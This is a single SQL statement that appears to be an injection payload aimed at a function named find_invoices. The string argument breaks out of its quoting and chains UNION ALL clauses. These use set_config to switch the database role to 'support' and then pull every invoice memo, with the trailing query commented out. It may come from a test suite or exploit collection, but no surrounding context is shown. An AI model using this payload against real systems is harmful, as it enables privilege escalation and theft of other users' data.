SELECT memo FROM find_invoices('x'' UNION ALL SELECT 0, set_config(''role'', ''support'', true) UNION ALL SELECT id, memo FROM find_invoices('''') --');
